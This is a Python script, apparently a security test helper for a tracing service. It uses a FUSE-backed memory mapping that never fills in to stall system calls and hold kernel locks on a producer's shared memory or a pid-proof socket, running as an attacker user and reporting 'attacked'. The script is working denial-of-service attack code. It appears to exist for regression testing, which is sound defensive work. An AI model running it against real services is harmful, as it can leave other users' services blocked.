#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Holds a lock that the kernel has for what is shared with the service, for as long as it likes.

A system call that copies to or from memory waits until the memory is there, and has its locks meanwhile; memory that
is mapped from a file system of one's own is there when one wants.

held-lock.py memory SOCKET NAME   the lock of the memory that a producer of Perfetto's protocol has, with a data source
                                  of that name. Says "ready" when it is registered, and is told a line when it is
                                  recorded.
held-lock.py proof SOCKET         that of a socket which is to prove a producer's pid to the service, over the bus at
                                  SOCKET
Says "attacked" when it has the lock, and stays until it is killed. Needs /dev/fuse, and root to mount; the rest is
done as $ATTACKER_UID, if that is set.
"""

import ctypes
import fcntl
import importlib.util
import mmap
import os
import signal
import socket
import struct
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "integration"))
import perfetto_ipc  # noqa: E402
import raw_bus  # noqa: E402

spec = importlib.util.spec_from_file_location("stuck_file", os.path.join(HERE, "stuck-file.py"))
stuck_file = importlib.util.module_from_spec(spec)
spec.loader.exec_module(stuck_file)

libc = ctypes.CDLL(None)
SEALS = 1 | 2 | 4  # SEAL, SHRINK, GROW
F_ADD_SEALS = 1033
MEMORY_BYTES = 256 << 10
START, TARGET_BUFFER = 1, 2


def memory_that_never_comes(file):
    """Not by Python's mmap, which asks about the file."""
    libc.mmap.restype = ctypes.c_void_p
    protection = mmap.PROT_READ | mmap.PROT_WRITE
    address = libc.mmap(None, ctypes.c_size_t(4096), protection, mmap.MAP_PRIVATE, file, ctypes.c_long(0))
    return ctypes.c_void_p(address)


def hold(call, *arguments):
    thread = threading.Thread(target=call, args=arguments, daemon=True)
    thread.start()
    time.sleep(0.5)
    if not thread.is_alive():
        sys.exit("the system call has returned")


def own_memory():
    fd = os.memfd_create("held", os.MFD_CLOEXEC | os.MFD_ALLOW_SEALING)
    os.ftruncate(fd, MEMORY_BYTES)
    fcntl.fcntl(fd, F_ADD_SEALS, SEALS)
    return fd


def find(data, *numbers):
    for number in numbers:
        data = perfetto_ipc.get(data, number)
        if data is None:
            return None
    return data


def attack_memory(address, file, name):
    fd = own_memory()
    client = perfetto_ipc.Client(address, "ProducerPort")
    client.ask(
        "InitializeConnection", perfetto_ipc.message((1, 4096), (2, MEMORY_BYTES), (3, "held"), (6, 1)), fd=fd
    )
    client.ask("RegisterDataSource", perfetto_ipc.message((1, perfetto_ipc.message((1, name)))))
    commands = client.call("GetAsyncCommand")
    print("ready", flush=True)
    sys.stdin.readline()
    buffer = None
    while buffer is None:
        _, _, command = client.reply(commands)
        buffer = find(command, START, 2, TARGET_BUFFER)
    client.ask("RegisterTraceWriter", perfetto_ipc.message((1, 1), (2, buffer)))
    client.ask("NotifyDataSourceStarted", perfetto_ipc.message((1, find(command, START, 1))))
    hold(libc.write, fd, memory_that_never_comes(file), ctypes.c_size_t(4096))
    return client


def registration(name):
    """RegisterProducer() with a proof: no sources, two options."""
    options = raw_bus.string("pid-namespace") + b"\1t\0"
    options = raw_bus.align(options, 8) + struct.pack("<Q", 1)
    options = raw_bus.align(options, 8) + raw_bus.string("pid-proof") + b"\1h\0"
    options = raw_bus.align(options, 4) + struct.pack("<I", 0)
    body = raw_bus.align(raw_bus.string(name), 4) + struct.pack("<I", 0)
    body = raw_bus.align(body, 8) + struct.pack("<I", len(options))
    body = raw_bus.align(body, 8) + options
    return raw_bus.call(
        "RegisterProducer",
        destination="org.desktrace.Tracing1",
        signature="sa(sa{sv})a{sv}",
        body=body,
        n_fds=1,
    )


def attack_proof(address, file):
    peer = raw_bus.Peer(address, True)
    shared, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    other.send(bytes(100))
    hold(libc.recv, shared.fileno(), memory_that_never_comes(file), ctypes.c_size_t(4096), 0)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", shared.fileno()))]
    peer.socket.sendmsg([registration("org.example.held")], rights)
    return peer, shared, other


def attack(where, way, address, *arguments):
    file = os.open(os.path.join(where, "file"), os.O_RDWR)
    libc.umount2(where.encode(), stuck_file.MNT_DETACH)
    os.rmdir(where)
    os.setuid(int(os.environ.get("ATTACKER_UID", os.getuid())))
    libc.prctl(stuck_file.PR_SET_PDEATHSIG, signal.SIGKILL)  # another user's was forgotten
    kept = {"memory": attack_memory, "proof": attack_proof}[way](address, file, *arguments)
    print("attacked", flush=True)
    time.sleep(600)
    del kept


def main(*arguments):
    where = tempfile.mkdtemp()
    file_system = stuck_file.FileSystem(where, 0)
    if os.fork() == 0:  # of two processes, the one that waits for the other can be killed
        libc.prctl(stuck_file.PR_SET_PDEATHSIG, signal.SIGKILL)
        os.close(file_system.fd)
        attack(where, *arguments)
    else:
        file_system.serve()


main(*sys.argv[1:])
